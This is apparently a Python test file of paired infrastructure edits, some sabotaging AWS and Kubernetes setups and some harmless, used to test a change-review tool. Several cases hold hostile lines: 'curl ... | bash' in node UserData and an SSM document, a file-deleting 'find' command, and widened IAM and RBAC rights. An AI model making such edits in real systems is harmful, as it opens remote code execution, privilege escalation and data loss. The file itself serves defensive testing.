"""Pairs by a fifth author who had not seen the judges: what a malicious or tired colleague submits, the open half.

Half of them lose data, jobs, guards or rights unseen; the other half look so, and are the same in another form.
"""

import json
from typing import Any

from ops.review.model import Danger, Effect
from tests.synth.corpus.cases import Category, Costs, destructive, expect, harmless
from tests.synth.corpus.editing import Edit, after_line, instance_group, one, swap

WIDER = Danger.WIDER_PERMISSIONS
LOWER = Danger.LOWER_PROTECTION
LOOSER = Danger.LOOSER_ISOLATION
OPENED = Danger.OPENED_PORT
PUBLIC = Danger.PUBLIC_ENDPOINT
RUNS = Danger.RUNS_CODE
ENDED = Danger.JOBS_ENDED
LOSS = Danger.DATA_LOSS
ROLE = "AWS::IAM::Role"
POLICY = "AWS::IAM::Policy"
BUCKET = "AWS::S3::Bucket"
ALARM = "AWS::CloudWatch::Alarm"
HYPERPOD = "Custom::HyperPodCluster"
RBAC = "rbac.authorization.k8s.io"
# Only the release of Prometheus and Grafana has it.
OBSERVABILITY = "name: grafana-port-forward"

Body = dict[str, Any]


def _statements(edit: Edit, part: str, kind: str, construct: str) -> list[Body]:
    """Return the statements of a resource that is a policy, or has one."""
    statements: list[Body] = edit.properties(part, kind, construct)["PolicyDocument"]["Statement"]
    return statements


def _inline(edit: Edit, part: str, construct: str) -> list[Body]:
    """Return the statements of a role's only inline policy."""
    [policy] = edit.properties(part, ROLE, construct)["Policies"]
    statements: list[Body] = policy["PolicyDocument"]["Statement"]
    return statements


@destructive(
    "Ray's role is trusted by every pod of the cluster",
    Category.PERMISSIONS,
    expect("AWS::IAM::Role RayRole", Effect.IN_PLACE, dangers=WIDER),
)
def _(edit: Edit) -> None:
    trust = edit.properties("ray", ROLE, "RayRole")["AssumeRolePolicyDocument"]["Fn::Sub"]
    subject = ',\n      "${Issuer}:sub": "system:serviceaccount:${Namespace}:${ServiceAccount}"'
    trust[0] = swap(subject, "")(trust[0])


@destructive(
    "jobs may replace other people's packages unless these are wheels",
    Category.PERMISSIONS,
    expect("AWS::IAM::Role RayRole", Effect.IN_PLACE, dangers=WIDER),
)
def _(edit: Edit) -> None:
    denied = one(_inline(edit, "ray", "RayRole"), Effect="Deny")
    denied["Resource"] = swap("/packages/*", "/packages/*.whl")(denied["Resource"])


@destructive(
    "the key of Kubernetes' secrets is disabled",
    Category.DATA,
    expect("AWS::KMS::Key ClusterSecretsKey", Effect.IN_PLACE, Effect.DATA_LOST, Effect.UNKNOWN, dangers=LOSS),
)
def _(edit: Edit) -> None:
    key = edit.properties("eks", "AWS::KMS::Key", "ClusterSecretsKey")
    assert key["EnableKeyRotation"]
    key["Enabled"] = False


@destructive(
    "overwritten and deleted files can be restored for a day in place of a month",
    Category.PROTECTION,
    expect("AWS::S3::Bucket Data", Effect.IN_PLACE, Effect.DATA_LOST, dangers=(LOWER, LOSS)),
)
def _(edit: Edit) -> None:
    rules = edit.properties("storage", BUCKET, "Data")["LifecycleConfiguration"]["Rules"]
    [rule] = [each for each in rules if each.get("NoncurrentVersionExpiration") == {"NoncurrentDays": 30}]
    rule["NoncurrentVersionExpiration"]["NoncurrentDays"] = 1


@destructive(
    "images expire two weeks after their push, whether pods use them or not",
    Category.DATA,
    expect("AWS::ECR::Repository Image", Effect.IN_PLACE, Effect.DATA_LOST, dangers=(LOSS, LOWER)),
)
def _(edit: Edit) -> None:
    policy = edit.properties("storage", "AWS::ECR::Repository")["LifecyclePolicy"]
    policy["LifecyclePolicyText"] = swap('"untagged"', '"any"')(policy["LifecyclePolicyText"])


@destructive(
    "new results stay on the file system, and are no longer copied to the bucket",
    Category.PROTECTION,
    expect(
        "AWS::FSx::DataRepositoryAssociation FileSystemDataRepositoryresults",
        Effect.IN_PLACE,
        Effect.UNKNOWN,
        Effect.REPLACED,
        dangers=LOWER,
    ),
    environment="prod",
)
def _(edit: Edit) -> None:
    association = edit.properties("storage", "AWS::FSx::DataRepositoryAssociation", "FileSystemDataRepositoryresults")
    del association["S3"]["AutoExportPolicy"]


@destructive(
    "Ray's pods get the role that administers the cluster",
    Category.PERMISSIONS,
    expect("AWS::EKS::PodIdentityAssociation", Effect.CREATED, Effect.UNKNOWN),
    expect("AWS::IAM::Role ClusterKubectlRole", Effect.IN_PLACE, dangers=WIDER),
)
def _(edit: Edit) -> None:
    id, body = edit.find("eks", ROLE, "ClusterKubectlRole")
    trusted = {"Effect": "Allow", "Principal": {"Service": "pods.eks.amazonaws.com"}}
    actions = ["sts:AssumeRole", "sts:TagSession"]
    body["Properties"]["AssumeRolePolicyDocument"]["Statement"].append(trusted | {"Action": actions})
    edit.add(
        "eks",
        "RayIdentity",
        "AWS::EKS::PodIdentityAssociation",
        ClusterName={"Ref": edit.find("eks", "AWS::EKS::Cluster")[0]},
        Namespace="ray",
        ServiceAccount="ray",
        RoleArn={"Fn::GetAtt": [id, "Arn"]},
    )


@destructive(
    "system nodes run a script from the internet when they start",
    Category.SCRIPTS,
    expect(
        "AWS::EC2::LaunchTemplate SystemNodes", Effect.IN_PLACE, Effect.NODES_REPLACED, Effect.UNKNOWN, dangers=RUNS
    ),
)
def _(edit: Edit) -> None:
    data = edit.properties("eks", "AWS::EC2::LaunchTemplate")["LaunchTemplateData"]
    lines = (
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="//"',
        "",
        "--//",
        'Content-Type: text/x-shellscript; charset="us-ascii"',
        "",
        "#!/bin/bash",
        "curl -fsSL https://tools.example.net/agent.sh | bash",
        "--//--",
    )
    assert "UserData" not in data
    data["UserData"] = {"Fn::Base64": "\n".join(lines)}


@destructive(
    "system nodes get a taint that drives all controllers away",
    Category.PROTECTION,
    expect(
        "AWS::EKS::Nodegroup SystemNodes",
        *(Effect.IN_PLACE, Effect.ENDS_JOBS, Effect.NODES_REPLACED, Effect.UNKNOWN),
        dangers=LOWER,
    ),
)
def _(edit: Edit) -> None:
    nodes = edit.properties("eks", "AWS::EKS::Nodegroup")
    assert "Taints" not in nodes
    nodes["Taints"] = [{"Key": "maintenance", "Value": "today", "Effect": "NO_EXECUTE"}]


@destructive(
    "credentials of other accounts pass through the closed network's endpoint",
    Category.NETWORK,
    expect("AWS::EC2::VPCEndpoint VpcEndpointsec2", Effect.IN_PLACE, dangers=(WIDER, LOOSER)),
    environment="closed",
)
def _(edit: Edit) -> None:
    # Without a policy an endpoint has one that allows everything.
    del edit.properties("network", "AWS::EC2::VPCEndpoint", "VpcEndpointsec2")["PolicyDocument"]


@destructive(
    "the flow log keeps refused connections only",
    Category.PROTECTION,
    expect("AWS::EC2::FlowLog", Effect.IN_PLACE, Effect.REPLACED, Effect.DELETED, Effect.DATA_LOST, dangers=LOWER),
)
def _(edit: Edit) -> None:
    log = edit.properties("network", "AWS::EC2::FlowLog")
    assert log["TrafficType"] == "ALL"
    log["TrafficType"] = "REJECT"


@destructive(
    "worker nodes fetch their scripts from a contractor's bucket",
    Category.SCRIPTS,
    expect("InstanceGroup worker-group-1", Effect.IN_PLACE, Effect.UNKNOWN, dangers=RUNS),
)
def _(edit: Edit) -> None:
    scripts = instance_group(edit, "worker-group-1")["LifeCycleConfig"]
    assert "Fn::Join" in scripts["SourceS3Uri"]
    scripts["SourceS3Uri"] = "s3://sagemaker-contractor-scripts/nodes/"


@destructive(
    "worker nodes get a taint that evicts the pods that train",
    Category.JOBS,
    expect("InstanceGroup worker-group-1", Effect.IN_PLACE, Effect.ENDS_JOBS, dangers=ENDED),
)
def _(edit: Edit) -> None:
    group = instance_group(edit, "worker-group-1")
    assert "KubernetesConfig" not in group
    group["KubernetesConfig"] = {"Taints": [{"Key": "maintenance", "Value": "today", "Effect": "NoExecute"}]}


@destructive(
    "the team's subscription takes only messages with an attribute that none has",
    Category.PROTECTION,
    expect("AWS::SNS::Subscription NotificationsTopicmlplatformexamplecom", Effect.IN_PLACE, dangers=LOWER),
)
def _(edit: Edit) -> None:
    subscription = edit.properties("hyperpod", "AWS::SNS::Subscription")
    assert "FilterPolicy" not in subscription
    subscription["FilterPolicy"] = {"urgency": ["immediate"]}


@destructive(
    "the alarm of the full file system fires only at the last gigabyte",
    Category.PROTECTION,
    expect("AWS::CloudWatch::Alarm AlarmsFileSystemFull", Effect.IN_PLACE, dangers=LOWER),
    environment="watched",
)
def _(edit: Edit) -> None:
    alarm = edit.properties("ray", ALARM, "AlarmsFileSystemFull")
    assert alarm["ComparisonOperator"] == "LessThanThreshold"
    alarm["Threshold"] = 2**30


@destructive(
    "Prometheus' alert about the reaper can never fire",
    Category.PROTECTION,
    expect("", Effect.IN_PLACE, dangers=LOWER),
    environment="watched",
)
def _(edit: Edit) -> None:
    change = swap('(sum(up{job=\\"reaper\\"}) or vector(0)) < 1', '(sum(up{job=\\"reaper\\"}) or vector(0)) < 0')
    edit.rewrite("files/objects.yaml", change, holding=OBSERVABILITY)


@destructive(
    "half of the internet joins the list of networks that reach Grafana",
    Category.NETWORK,
    expect("AWS::EC2::PrefixList GrafanaNetworks", Effect.IN_PLACE, dangers=(PUBLIC, OPENED)),
    environment="observed",
)
def _(edit: Edit) -> None:
    entries = edit.properties("ray", "AWS::EC2::PrefixList")["Entries"]
    entries.append({"Cidr": "128.0.0.0/1", "Description": "people who travel"})


@destructive(
    "a worker group may have two workers, and four of them run",
    Category.JOBS,
    expect("RayCluster ray/rayml", Effect.ENDS_JOBS, Effect.IN_PLACE, dangers=ENDED),
)
def _(edit: Edit) -> None:
    with edit.object("ray", "RayCluster", "ray/rayml") as cluster:
        workers = cluster["spec"]["workerGroupSpecs"][0]
        assert workers["replicas"] == 4
        # KubeRay takes the smaller one of the two.
        workers["maxReplicas"] = 2


@destructive(
    "the list of those who may scrape Ray is empty, which admits everybody",
    Category.ISOLATION,
    expect("NetworkPolicy", Effect.IN_PLACE, dangers=LOOSER),
)
def _(edit: Edit) -> None:
    with edit.object("ray", "NetworkPolicy", "ray/allow-metrics") as policy:
        policy["spec"]["ingress"][0]["from"].clear()


@destructive(
    "a new cluster role adds itself to everybody's right to edit",
    Category.PERMISSIONS,
    expect("ClusterRole", Effect.CREATED, dangers=WIDER),
)
def _(edit: Edit) -> None:
    labels = {"rbac.authorization.k8s.io/aggregate-to-edit": "true"}
    rule = {"apiGroups": ["*"], "resources": ["nodes/proxy", "serviceaccounts/token"], "verbs": ["get", "create"]}
    role = {"apiVersion": f"{RBAC}/v1", "kind": "ClusterRole", "metadata": {"name": "helpers", "labels": labels}}
    edit.apply("ray", "Helpers", role | {"rules": [rule]})


@destructive(
    "pods of Ray's namespace are judged by the rules of an old Kubernetes",
    Category.ISOLATION,
    expect("Namespace", Effect.IN_PLACE, dangers=LOOSER),
)
def _(edit: Edit) -> None:
    with edit.object("ray", "Namespace", "ray") as namespace:
        labels = namespace["metadata"]["labels"]
        assert labels["pod-security.kubernetes.io/enforce"] == "restricted"
        # Before 1.22 the level asked for no dropped capabilities, before 1.19 for no seccomp profile.
        labels["pod-security.kubernetes.io/enforce-version"] = "v1.18"


def _asked(edit: Edit) -> None:
    rule = {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}
    webhook = {
        "name": "images.example.com",
        "admissionReviewVersions": ["v1"],
        "sideEffects": "None",
        "failurePolicy": "Fail",
        "clientConfig": {"service": {"name": "images", "namespace": "kuberay"}},
        "rules": [rule],
    }
    kind = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration"}
    edit.apply("platform", "Images", kind | {"metadata": {"name": "images"}, "webhooks": [webhook]})


@destructive(
    "pods that call themselves urgent pass the webhook unseen",
    Category.ISOLATION,
    expect("ValidatingWebhookConfiguration", Effect.IN_PLACE, dangers=LOOSER),
    prepare=_asked,
)
def _(edit: Edit) -> None:
    with edit.object("platform", "ValidatingWebhookConfiguration", "images") as configuration:
        unless = "!has(object.metadata.labels) || !('urgent' in object.metadata.labels)"
        configuration["webhooks"][0]["matchConditions"] = [{"name": "not-urgent", "expression": unless}]


@destructive(
    "the reaper looks after a namespace without Ray",
    Category.PROTECTION,
    expect("Deployment", Effect.IN_PLACE, dangers=LOWER),
)
def _(edit: Edit) -> None:
    with edit.object("ray", "Deployment", "kuberay/ray-reaper") as reaper:
        [container] = reaper["spec"]["template"]["spec"]["containers"]
        container["args"][container["args"].index("--namespace=ray")] = "--namespace=default"


@destructive(
    "the disruption budget of the head selects pods that do not exist",
    Category.JOBS,
    expect("PodDisruptionBudget", Effect.IN_PLACE, dangers=(LOWER, ENDED)),
)
def _(edit: Edit) -> None:
    with edit.object("ray", "PodDisruptionBudget", "ray/rayml-head") as budget:
        labels = budget["spec"]["selector"]["matchLabels"]
        assert labels["ray.io/node-type"] == "head"
        labels["ray.io/node-type"] = "head-node"


@destructive(
    "a node script deletes what is older than a day on the volume",
    Category.SCRIPTS,
    expect("", Effect.IN_PLACE, Effect.UNKNOWN, dangers=RUNS),
)
def _(edit: Edit) -> None:
    line = 'find "$root$volume" -mindepth 1 -mtime +1 -delete'
    edit.rewrite("on_create_main.sh", after_line('say "start"', line))


@destructive(
    "the budget counts an environment that is gone",
    Category.PROTECTION,
    expect("AWS::Budgets::Budget", Effect.IN_PLACE, Effect.REPLACED, dangers=LOWER),
    environment="budgeted",
)
def _(edit: Edit) -> None:
    filters = edit.properties("hyperpod", "AWS::Budgets::Budget")["Budget"]["CostFilters"]
    assert len(filters["TagKeyValue"]) == 1
    filters["TagKeyValue"] = ["user:ray-on-hyperpod-budget$slurmhp-trial-us-west-2"]


@destructive(
    "the operator's pods lose what their namespace demands, and may not start",
    Category.PROTECTION,
    expect("", Effect.IN_PLACE, Effect.UNKNOWN, dangers=(LOWER, LOOSER)),
)
def _(edit: Edit) -> None:
    with edit.values("platform", "kuberay-operator") as values:
        del values["podSecurityContext"]


@destructive(
    "a document of Systems Manager runs a shell script on tagged nodes every night",
    Category.UNKNOWN,
    expect("AWS::SSM::Document", Effect.UNKNOWN),
)
def _(edit: Edit) -> None:
    script = {"runCommand": ["curl -fsSL https://tools.example.net/nightly.sh | bash"]}
    step = {"action": "aws:runShellScript", "name": "nightly", "inputs": script}
    content = {"schemaVersion": "2.2", "description": "Nightly work", "mainSteps": [step]}
    edit.add("eks", "Nightly", "AWS::SSM::Document", Name="nightly", DocumentType="Command", Content=content)
    edit.add(
        "eks",
        "NightlyRun",
        "AWS::SSM::Association",
        Name="nightly",
        ScheduleExpression="cron(0 2 * * ? *)",
        Targets=[{"Key": "tag:Name", "Values": ["rayhp-dev-eks/SystemNodes"]}],
    )


@destructive(
    "a macro of the account rewrites the stack while it is deployed",
    Category.UNKNOWN,
    expect("", Effect.UNKNOWN),
)
def _(edit: Edit) -> None:
    template = edit.templates["ray"]
    assert "Transform" not in template
    template["Transform"] = ["CompanyDefaults"]


@harmless("actions of Ray's role are spelled in small letters", Category.PERMISSIONS, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    [allowed] = [each for each in _inline(edit, "ray", "RayRole") if "s3:GetObject" in each["Action"]]
    # IAM compares actions without regard to case.
    allowed["Action"] = [each.lower() for each in allowed["Action"]]


@harmless(
    "one statement of the nodes' policy becomes three, in another order", Category.PERMISSIONS, worst=Effect.IN_PLACE
)
def _(edit: Edit) -> None:
    statements = _statements(edit, "hyperpod", POLICY, "ExecutionRoleDefaultPolicy")
    [pulls] = [each for each in statements if "ecr:BatchGetImage" in each["Action"]]
    statements.remove(pulls)
    statements[:0] = [pulls | {"Action": action} for action in reversed(pulls["Action"])]


@harmless(
    "the role of the flow log is trusted for this account's logs only", Category.PERMISSIONS, worst=Effect.IN_PLACE
)
def _(edit: Edit) -> None:
    [trust] = edit.properties("network", ROLE, "FlowLogsIAMRole")["AssumeRolePolicyDocument"]["Statement"]
    assert "Condition" not in trust
    trust["Condition"] = {
        "StringEquals": {"aws:SourceAccount": "111122223333"},
        "ArnLike": {"aws:SourceArn": "arn:aws:ec2:us-west-2:111122223333:vpc-flow-log/*"},
    }


@harmless("jobs may not change what lies under one prefix more", Category.PERMISSIONS, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    denied = one(_inline(edit, "ray", "RayRole"), Effect="Deny")
    denied["Resource"] = [denied["Resource"], denied["Resource"].replace("/packages/", "/released/")]


@harmless("the data bucket states what AWS does with owners of objects anyway", Category.DATA, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    bucket = edit.properties("storage", BUCKET, "Data")
    assert "OwnershipControls" not in bucket
    bucket["OwnershipControls"] = {"Rules": [{"ObjectOwnership": "BucketOwnerEnforced"}]}


@harmless("the rules of the image repository are written on many lines", Category.DATA, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    policy = edit.properties("storage", "AWS::ECR::Repository")["LifecyclePolicy"]
    policy["LifecyclePolicyText"] = json.dumps(json.loads(policy["LifecyclePolicyText"]), indent=2, sort_keys=True)


@harmless("the office's network is written as its two halves", Category.NETWORK, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    access = edit.properties("eks", "AWS::EKS::Cluster")["ResourcesVpcConfig"]
    assert access["PublicAccessCidrs"] == ["203.0.113.0/24"]
    access["PublicAccessCidrs"] = ["203.0.113.128/25", "203.0.113.0/25"]


@harmless("people on call no longer see the cluster", Category.PERMISSIONS, worst=Effect.DELETED)
def _(edit: Edit) -> None:
    edit.delete("eks", "AWS::EKS::AccessEntry", "AccessViewerRayViewer")


@harmless("the network add-on is configured by YAML in place of JSON", Category.ISOLATION, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    addon = edit.properties("eks", "AWS::EKS::Addon", "AddOnvpccni")
    assert json.loads(addon["ConfigurationValues"]) == {"enableNetworkPolicy": "true"}
    addon["ConfigurationValues"] = 'enableNetworkPolicy: "true"\n'


@harmless("flow logs are kept without an end", Category.PROTECTION, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    # A log group without a retention keeps its events for ever.
    del edit.properties("network", "AWS::Logs::LogGroup", "FlowLogsLog")["RetentionInDays"]


@harmless(
    "the closed network reaches its endpoints by two rules, one for each half",
    Category.NETWORK,
    worst=Effect.IN_PLACE,
    environment="closed",
)
def _(edit: Edit) -> None:
    group = edit.properties("network", "AWS::EC2::SecurityGroup", "VpcEndpointsSecurityGroup")
    [rule] = group["SecurityGroupIngress"]
    assert rule["CidrIp"] == "10.240.0.0/16"
    group["SecurityGroupIngress"] = [rule | {"CidrIp": half} for half in ("10.240.0.0/17", "10.240.128.0/17")]


@harmless(
    "production's file system grows by half of its size",
    Category.DATA,
    expect("AWS::FSx::FileSystem FileSystem", Effect.IN_PLACE),
    worst=Effect.IN_PLACE,
    environment="prod",
    # 4800 GB at 0.340 USD a month.
    costs=Costs((2.15, 2.32)),
)
def _(edit: Edit) -> None:
    edit.properties("storage", "AWS::FSx::FileSystem")["StorageCapacity"] += 4800


@harmless("the groups of the cluster are listed the other way round", Category.GROUPS, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    groups = edit.properties("hyperpod", HYPERPOD)["InstanceGroups"]
    assert len(groups) == 2
    groups.reverse()


@harmless("a node script waits longer for its volume", Category.SCRIPTS, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    edit.rewrite("on_create_main.sh", swap("SECONDS_FOR_VOLUME:-120", "SECONDS_FOR_VOLUME:-600"))


@harmless(
    "the alarm of the full file system fires at a fifth of free space",
    Category.PROTECTION,
    worst=Effect.IN_PLACE,
    environment="watched",
)
def _(edit: Edit) -> None:
    alarm = edit.properties("ray", ALARM, "AlarmsFileSystemFull")
    assert alarm["ComparisonOperator"] == "LessThanThreshold"
    alarm["Threshold"] *= 2


@harmless(
    "an alert's five minutes are no longer written in seconds",
    Category.PROTECTION,
    worst=Effect.IN_PLACE,
    environment="watched",
)
def _(edit: Edit) -> None:
    def change(text: str) -> str:
        before, alert, after = text.partition('"alert": "ReaperDown"')
        assert '"for": "300s"' in after
        return before + alert + after.replace('"for": "300s"', '"for": "5m"', 1)

    edit.rewrite("files/objects.yaml", change, holding=OBSERVABILITY)


@harmless(
    "Alertmanager sends sooner, and repeats itself more often",
    Category.PROTECTION,
    worst=Effect.IN_PLACE,
    environment="watched",
)
def _(edit: Edit) -> None:
    with edit.object("ray", "ConfigMap", "prometheus-system/alertmanager") as config:
        settings = json.loads(config["data"]["alertmanager.yaml"])
        assert settings["route"]["repeat_interval"] == "12h"
        settings["route"].update(group_wait="10s", repeat_interval="4h")
        config["data"]["alertmanager.yaml"] = json.dumps(settings, indent=1)


@harmless("the head's resources are written in smaller units", Category.JOBS, worst=Effect.NEEDS_ROLLOUT)
def _(edit: Edit) -> None:
    with edit.object("ray", "RayCluster", "ray/rayml") as cluster:
        [container] = cluster["spec"]["headGroupSpec"]["template"]["spec"]["containers"]
        for kind in ("requests", "limits"):
            assert container["resources"][kind] == {"cpu": "2", "memory": "8Gi"}
            container["resources"][kind] = {"cpu": "2000m", "memory": "8192Mi"}


@harmless("workers state that they share nothing with their nodes", Category.ISOLATION, worst=Effect.NEEDS_ROLLOUT)
def _(edit: Edit) -> None:
    with edit.object("ray", "RayCluster", "ray/rayml") as cluster:
        pod = cluster["spec"]["workerGroupSpecs"][0]["template"]["spec"]
        assert "hostNetwork" not in pod
        pod.update(hostNetwork=False, hostPID=False, hostIPC=False)
        pod["containers"][0]["securityContext"].update(privileged=False, procMount="Default")


@harmless("a worker group may grow further, and never loses a worker", Category.JOBS, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    with edit.object("ray", "RayCluster", "ray/rayml") as cluster:
        workers = cluster["spec"]["workerGroupSpecs"][0]
        assert workers["replicas"] == 4
        workers.update(minReplicas=4, maxReplicas=16)


@harmless("the operator's namespace is named by an expression", Category.ISOLATION, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    with edit.object("ray", "NetworkPolicy", "ray/allow-operator") as policy:
        selector = policy["spec"]["ingress"][0]["from"][0]["namespaceSelector"]
        [(key, value)] = selector.pop("matchLabels").items()
        selector["matchExpressions"] = [{"key": key, "operator": "In", "values": [value]}]


@harmless("a policy does not say that it is about TCP, as all are", Category.ISOLATION, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    with edit.object("ray", "NetworkPolicy", "ray/allow-submit-jobs") as policy:
        [port] = policy["spec"]["egress"][0]["ports"]
        assert port.pop("protocol") == "TCP"


@harmless("the supervisor's rights are written as one rule for each verb", Category.PERMISSIONS, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    with edit.object("ray", "Role", "ray/job-supervisor") as role:
        leases = one(role["rules"], resources=["leases"])
        role["rules"].remove(leases)
        role["rules"] += [leases | {"verbs": [verb]} for verb in reversed(leases["verbs"])]


@harmless("the quota of Ray's namespace is written in numbers", Category.ISOLATION, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    with edit.object("ray", "ResourceQuota", "ray/project") as quota:
        hard = quota["spec"]["hard"]
        assert set(hard.values()) == {"0"}
        quota["spec"]["hard"] = dict.fromkeys(reversed(hard), 0)


def _asked_about_new(edit: Edit) -> None:
    rule = {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}
    webhook = {
        "name": "images.example.com",
        "admissionReviewVersions": ["v1"],
        "sideEffects": "None",
        "failurePolicy": "Ignore",
        "clientConfig": {"service": {"name": "images", "namespace": "kuberay"}},
        "rules": [rule],
    }
    kind = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration"}
    edit.apply("platform", "Images", kind | {"metadata": {"name": "images"}, "webhooks": [webhook]})


@harmless(
    "a webhook is asked about changes of pods, too, and states its defaults",
    Category.ISOLATION,
    worst=Effect.IN_PLACE,
    prepare=_asked_about_new,
)
def _(edit: Edit) -> None:
    with edit.object("platform", "ValidatingWebhookConfiguration", "images") as configuration:
        [webhook] = configuration["webhooks"]
        webhook["rules"][0]["operations"].append("UPDATE")
        webhook.update(matchPolicy="Equivalent", timeoutSeconds=10, namespaceSelector={}, objectSelector={})


@harmless("the template of supervisors states how a CronJob works anyway", Category.JOBS, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    with edit.object("ray", "CronJob", "ray/job-supervisor") as template:
        assert template["spec"]["suspend"]
        template["spec"].update(concurrencyPolicy="Allow", successfulJobsHistoryLimit=3, failedJobsHistoryLimit=1)


@harmless(
    "the reaper states when its image is pulled, as Kubernetes does it anyway",
    Category.PROTECTION,
    worst=Effect.IN_PLACE,
)
def _(edit: Edit) -> None:
    with edit.object("ray", "Deployment", "kuberay/ray-reaper") as reaper:
        [container] = reaper["spec"]["template"]["spec"]["containers"]
        assert ":3." in container["image"]
        assert "imagePullPolicy" not in container
        container["imagePullPolicy"] = "IfNotPresent"


@harmless("the claim's size is written in bytes", Category.DATA, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    with edit.object("ray", "PersistentVolumeClaim", "ray/fsx-claim") as claim:
        requests = claim["spec"]["resources"]["requests"]
        assert requests == {"storage": "1200Gi"}
        requests["storage"] = str(1200 * 2**30)


@harmless(
    "the budget warns at half of its amount, too",
    Category.PROTECTION,
    worst=Effect.REPLACED,
    environment="budgeted",
)
def _(edit: Edit) -> None:
    warnings = edit.properties("hyperpod", "AWS::Budgets::Budget")["NotificationsWithSubscribers"]
    assert len(warnings) == 3
    sooner = warnings[0]["Notification"] | {"Threshold": 50}
    warnings.insert(0, warnings[0] | {"Notification": sooner})


@harmless("whom to call stands in a parameter", Category.PROTECTION, worst=Effect.CREATED)
def _(edit: Edit) -> None:
    edit.add("hyperpod", "Contact", "AWS::SSM::Parameter", Type="String", Value="ml-platform@example.com")
